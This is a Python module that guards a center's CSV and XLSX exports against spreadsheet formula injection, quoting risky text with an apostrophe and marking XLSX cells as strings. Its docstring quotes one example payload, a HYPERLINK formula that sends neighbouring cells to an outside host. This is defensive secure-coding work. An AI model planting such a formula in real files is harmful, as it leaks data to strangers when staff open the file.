"""Spreadsheet formula injection: one rule for every CSV and XLSX file the center writes.

A spreadsheet runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@``
(also after leading spaces, and tab or carriage return on their own) as a
formula: a candidate named ``=HYPERLINK("http://x/?"&A1,"a")`` would send the
neighbouring cells to a stranger the moment staff open the registry CSV.
Following the OWASP guidance on CSV injection, such text is written with a
leading apostrophe, which spreadsheets show as text and never evaluate.

Only text is ever changed. Numbers and dates reach the writer as Python
values and are written untouched: a negative number stored as a number
(``-5``) comes out as the digits of a number, which a spreadsheet reads as
the number -5 and which cannot hold an expression, so it keeps its value and
its sorting. The same ``-5`` held as *text* (a code, a name) is prefixed like
any other text starting with ``-``: text never knows what follows the sign.

A text that already begins with an apostrophe followed by what would need
one (or by another apostrophe) gets one more, so ``spreadsheet_unquote``
gives back exactly what was written (the question bank imports its own
exports). XML has no formulas and is written exactly.

XLSX stores the type of each cell: text goes in as a string cell (never a
formula, whatever it begins with) carrying Excel's own "quote prefix" flag,
which is what typing the apostrophe in Excel records. The text itself stays
exact, so a workbook reader gets the true value.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_AFTER_SPACE_TRIGGERS = ("=", "+", "-", "@")
# First characters worth a closer look: the registry export calls this for every cell of 100,000 rows.
_SUSPECT_FIRST = frozenset("=+-@'")


def looks_like_formula(text: str) -> bool:
    """True if a spreadsheet could read this text as the start of a formula."""
    return text.startswith(FORMULA_TRIGGERS) or text.lstrip().startswith(_AFTER_SPACE_TRIGGERS)


def _needs_apostrophe(text: str) -> bool:
    return looks_like_formula(text) or (text.startswith("'") and (text[1:2] == "'" or looks_like_formula(text[1:])))


def spreadsheet_safe(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as written and never evaluates; non-text values are returned as they are."""
    if (
        isinstance(value, str)
        and value
        and (value[0] in _SUSPECT_FIRST or value[0].isspace())
        and _needs_apostrophe(value)
    ):
        return "'" + value
    return value


def spreadsheet_safe_row(values) -> list:
    return [spreadsheet_safe(v) for v in values]


def spreadsheet_unquote(text: str) -> str:
    """The exact inverse of ``spreadsheet_safe`` on text (for files the center reads back)."""
    if text.startswith("'") and _needs_apostrophe(text[1:]):
        return text[1:]
    return text


def xlsx_set_cell(worksheet, *, row: int, column: int, value: Any):
    """Write one XLSX cell: text as a string cell (never a formula), quote-prefixed when it looks like one."""
    cell = worksheet.cell(row=row, column=column, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell
